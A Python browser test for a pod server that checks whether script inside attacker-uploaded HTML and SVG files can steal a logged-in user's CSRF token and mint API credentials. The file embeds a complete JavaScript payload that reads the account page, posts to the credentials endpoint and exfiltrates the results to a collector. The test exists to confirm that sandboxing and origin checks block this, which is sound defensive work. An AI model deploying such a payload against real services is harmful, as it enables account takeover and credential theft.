"""The pod-content attack on the account, in headless Chromium: it fails at every step.

mallory (an account made through the JSON API) stores an HTML page and an SVG image in her pod,
readable by anyone, each carrying a script that reads alice's account page for its CSRF token,
POSTs `/.account/credentials` to get a client secret acting as alice's WebID, and sends what it
got to mallory's collector. alice signs up in the browser, stays logged in and opens mallory's
page and image. The pod serves them with `Content-Security-Policy: sandbox`, so the script does
not run at all.

Then the script is run anyway, as if the sandbox had let it: from a sandboxed page with scripts
allowed (an opaque origin, whose requests say `Origin: null`), from a page of another origin on
the same site (another port on 127.0.0.1, whose requests carry alice's SameSite=Lax cookie) and
from another site (localhost). It is even handed alice's real CSRF token. It cannot read the
account page, and its POST is refused. At the end alice has no credentials and the collector
received nothing. Every page is photographed into test-output/screenshots/.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final
from urllib.parse import urlencode

import aiohttp
import pytest
from aiohttp import web
from playwright.async_api import expect

from pod.vocab import ACL, FOAF
from tests.conftest import ServerFactory
from tests.idp.browsing import SCREENSHOTS, Browser, chromium_page
from tests.idp.conftest import Kluis, api_token, csrf_of, sign_up
from tests.idp.test_browser import sign_up_in_browser
from tests.idp.test_flows import DPoPKey, client_credentials_token, dpop_headers

MALLORY: Final = "mallory"
ALICE_EMAIL: Final = "alice@example.org"  # what sign_up_in_browser uses
NOT_RUN: Final = "the script did not run"
RAN: Final = "the script ran"
# What Chromium logs when a sandboxed document's script is not allowed to run.
BLOCKED: Final = "the document's frame is sandboxed and the 'allow-scripts' permission is not set"

# The attack, as a same-origin script would run it. KLUIS and COLLECTOR are filled in; a page that
# simulates a leaked token passes it as ?csrf=&webid=.
ATTACK_JS: Final = """
const KLUIS = "%(kluis)s", COLLECTOR = "%(collector)s";
const root = document.documentElement;
const sameOrigin = location.origin === new URL(KLUIS).origin;
const say = (line) => { document.getElementById("log").textContent += line + " | "; };
const steal = (what, value) =>
  fetch(COLLECTOR + "/" + what, {method: "POST", mode: "no-cors", body: value});
document.getElementById("status").textContent = "%(ran)s";
(async () => {
  const leaked = new URLSearchParams(location.search);
  let csrf = leaked.get("csrf"), webid = leaked.get("webid");
  try {
    const page = await (await fetch(KLUIS + ".account/", {credentials: "include"})).text();
    const token = page.match(/name="csrf" value="([^"]+)"/);
    const owner = page.match(/name="webid"><option value="([^"]+)"/);
    if (token && owner) {
      [csrf, webid] = [token[1], owner[1]];
      await steal("csrf", csrf);
      say("read the CSRF token");
    } else {
      say("read the account page: no CSRF token in it");
    }
  } catch (error) {
    say("could not read the account page: " + error);
  }
  if (csrf && webid) {
    try {
      // From another origin the answer cannot be read, but the request is made all the same.
      const answer = await fetch(KLUIS + ".account/credentials", {
        method: "POST", credentials: "include", mode: sameOrigin ? "same-origin" : "no-cors",
        body: new URLSearchParams({csrf: csrf, webid: webid, name: "mallory was here"}),
      });
      const secret = (await answer.text()).match(/Client secret: <code>([^<]+)</);
      if (answer.type === "opaque") {
        say("POST credentials: sent, the answer cannot be read");
      } else if (secret) {
        await steal("secret", secret[1]);
        say("stole a client secret");
      } else {
        say("POST credentials: " + answer.status + ", no secret");
      }
    } catch (error) {
      say("could not POST credentials: " + error);
    }
  }
  root.dataset.done = "yes";
})();
"""


def attack_html(kluis: str, collector: str) -> str:
    script = ATTACK_JS % {"kluis": kluis, "collector": collector, "ran": RAN}
    return (
        "<!doctype html><html lang=en><head><meta charset=utf-8><title>Cute cats</title>"
        '<link rel=icon href="data:,"></head><body><h1>Cute cats</h1>'
        f'<p id="status">{NOT_RUN}</p><p id="log"></p><script>{script}</script></body></html>'
    )


def attack_svg(kluis: str, collector: str) -> str:
    script = ATTACK_JS % {"kluis": kluis, "collector": collector, "ran": RAN}
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="120">'
        f'<text id="status" x="10" y="40" font-size="24">{NOT_RUN}</text>'
        '<text id="log" x="10" y="80" font-size="12"></text>'
        f"<script><![CDATA[{script}]]></script></svg>"
    )


# --- mallory: her pod, her web site, her collector --------------------------------------


@dataclass
class Mallory:
    page: str  # the HTML page in her pod
    image: str  # the SVG image in her pod
    site: str  # her web site, on 127.0.0.1 (same site as Kluis, another origin)
    collector: str
    received: list[str] = field(default_factory=list)

    def site_page(self, *, sandboxed: bool, query: dict[str, str], cross_site: bool = False) -> str:
        base = self.site.replace("127.0.0.1", "localhost") if cross_site else self.site
        return f"{base}/{'sandboxed' if sandboxed else 'page'}?{urlencode(query)}"


def readable_by_anyone(owner: str) -> str:
    """A folder's ACL: the owner has full control, anyone may read the folder and its contents."""
    return (
        f"<#owner> a <{ACL.Authorization}>; <{ACL.agent}> <{owner}>; <{ACL.accessTo}> <./>;\n"
        f"  <{ACL.default}> <./>; <{ACL.mode}> <{ACL.Read}>, <{ACL.Write}>, <{ACL.Control}>.\n"
        f"<#public> a <{ACL.Authorization}>; <{ACL.agentClass}> <{FOAF.Agent}>;\n"
        f"  <{ACL.accessTo}> <./>; <{ACL.default}> <./>; <{ACL.mode}> <{ACL.Read}>.\n"
    )


async def put(kluis: Kluis, path: str, body: str, media: str, *, token: str, key: DPoPKey) -> None:
    url = kluis.url(path)
    async with (
        aiohttp.ClientSession() as s,
        s.put(
            url, data=body, headers={"Content-Type": media, **dpop_headers(key, "PUT", url, token)}
        ) as r,
    ):
        assert r.status in (201, 204), await r.text()


@pytest.fixture
async def mallory(kluis: Kluis, aiohttp_server: ServerFactory) -> Mallory:
    received: list[str] = []

    async def collect(request: web.Request) -> web.Response:
        received.append(f"{request.method} {request.path_qs} {await request.text()}")
        return web.Response(status=204)

    collector_app = web.Application()
    collector_app.router.add_route("*", "/{tail:.*}", collect)
    collector = str((await aiohttp_server(collector_app)).make_url("")).rstrip("/")

    async def site_page(request: web.Request) -> web.Response:
        response = web.Response(
            text=attack_html(kluis.base, collector), content_type="text/html", charset="utf-8"
        )
        if request.path == "/sandboxed":
            # The pod's own sandbox, with scripts let through: an opaque origin that runs them.
            response.headers["Content-Security-Policy"] = "sandbox allow-scripts"
        return response

    site_app = web.Application()
    site_app.router.add_get("/page", site_page)
    site_app.router.add_get("/sandboxed", site_page)
    site = str((await aiohttp_server(site_app)).make_url("")).rstrip("/")

    created = await sign_up(kluis, "mallory@example.org", MALLORY)
    token, key, _ = await client_credentials_token(kluis, "mallory@example.org", MALLORY, DPoPKey())
    folder = f"{MALLORY}/cats/"
    for name, body, media in (
        ("cats.html", attack_html(kluis.base, collector), "text/html"),
        ("cat.svg", attack_svg(kluis.base, collector), "image/svg+xml"),
        (".acl", readable_by_anyone(created["webId"]), "text/turtle"),
    ):
        await put(kluis, folder + name, body, media, token=token, key=key)
    return Mallory(
        kluis.url(folder + "cats.html"), kluis.url(folder + "cat.svg"), site, collector, received
    )


# --- alice's browser ----------------------------------------------------------------------


@pytest.fixture
async def alice(tmp_path: Path, request: pytest.FixtureRequest) -> AsyncIterator[Browser]:
    """alice's browser; its `errors` collects every console line (the sandbox reports there)."""
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    async with chromium_page(tmp_path / "chromium-profile") as page:
        prefix = request.node.name.removeprefix("test_").replace("_", "-")
        console: list[str] = []
        page.on("console", lambda message: console.append(message.text))
        yield Browser(page, SCREENSHOTS, prefix, console)


async def credentials_of(kluis: Kluis, email: str) -> list[dict[str, str]]:
    """The account's client credentials, as the JSON API lists them."""
    token = await api_token(kluis, email)
    async with (
        aiohttp.ClientSession() as s,
        s.get(kluis.url(".account/api/me"), headers={"Authorization": f"Bearer {token}"}) as r,
    ):
        assert r.status == 200
        found: list[dict[str, str]] = (await r.json())["credentials"]
        return found


async def open_pod_document(b: Browser, url: str, step: str) -> None:
    """Open mallory's document as alice: it shows, its script does not run."""
    before = len(b.errors)
    response = await b.page.goto(url)
    assert response is not None
    assert response.status == 200
    # Inline scripts run while the document is parsed, so before `load`, which goto awaited.
    await expect(b.page.locator("#status")).to_have_text(NOT_RUN)
    await expect(b.page.locator("#log")).to_have_text("")
    assert any(BLOCKED in line for line in b.errors[before:]), b.errors[before:]
    assert response.headers["content-security-policy"] == "sandbox"
    assert response.headers["x-content-type-options"] == "nosniff"
    # Not Browser.shot: a full-page screenshot of a bare SVG document never completes.
    await b.page.screenshot(path=b.shots / f"{b.prefix}-{step}.png")


async def run_script_elsewhere(kluis: Kluis, b: Browser, url: str, step: str) -> tuple[str, int]:
    """Open a page of mallory's that runs the script: what it reported, and Kluis's answer to its
    POST /.account/credentials (which the browser knows, though the script cannot read it)."""
    credentials = kluis.url(".account/credentials")
    async with b.page.expect_response(
        lambda r: r.url == credentials and r.request.method == "POST"
    ) as posted:
        await b.page.goto(url)
        await expect(b.page.locator("#status")).to_have_text(RAN)
        await expect(b.page.locator("html")).to_have_attribute("data-done", "yes")
    await b.shot(step)
    return await b.page.locator("#log").inner_text(), (await posted.value).status


async def test_pod_content_cannot_act_with_alices_account(
    kluis: Kluis, mallory: Mallory, alice: Browser
) -> None:
    webid = await sign_up_in_browser(kluis, alice)  # alice is now logged in
    await alice.page.goto(kluis.url(".account/"))
    csrf = csrf_of(await alice.page.content())
    assert await credentials_of(kluis, ALICE_EMAIL) == []

    # 1. The page and the image in mallory's pod: shown, sandboxed, their script never runs.
    await open_pod_document(alice, mallory.page, "03-pod-page")
    await open_pod_document(alice, mallory.image, "04-pod-image")

    # 2. The script, run anyway, even given alice's real CSRF token and WebID.
    leaked = {"csrf": csrf, "webid": webid}
    # The sandboxed page is an opaque origin (Origin: null). 127.0.0.1 on another port is the same
    # site, so alice's SameSite=Lax session cookie goes along: only the origin check is in the way.
    for url, step in (
        (mallory.site_page(sandboxed=True, query=leaked), "05-sandboxed-script"),
        (mallory.site_page(sandboxed=False, query=leaked), "06-same-site-script"),
        (mallory.site_page(sandboxed=False, query=leaked, cross_site=True), "07-cross-site-script"),
    ):
        log, status = await run_script_elsewhere(kluis, alice, url, step)
        # No CORS on the account pages: the page cannot be read, so neither can the token.
        assert "could not read the account page: TypeError: Failed to fetch" in log, log
        assert "POST credentials: sent, the answer cannot be read" in log, log
        # The POST, with alice's real CSRF token, is refused for where it came from.
        assert status == 403, (step, status)

    # 3. Nothing happened: alice has no credentials, the collector got nothing.
    await alice.page.goto(kluis.url(".account/"))
    await expect(alice.page.get_by_role("heading", name="Your account")).to_be_visible()
    await expect(alice.page.get_by_text("mallory was here")).to_have_count(0)
    await alice.shot("08-account-unchanged")
    assert await credentials_of(kluis, ALICE_EMAIL) == []
    assert mallory.received == []
